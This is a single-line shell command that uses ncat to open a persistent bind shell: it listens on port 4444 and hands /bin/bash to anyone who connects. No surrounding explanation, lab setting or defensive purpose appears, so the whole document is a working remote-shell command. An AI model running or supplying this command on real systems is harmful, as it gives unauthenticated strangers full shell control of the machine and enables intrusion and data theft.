ncat --exec /bin/bash -l 4444 --keep-open
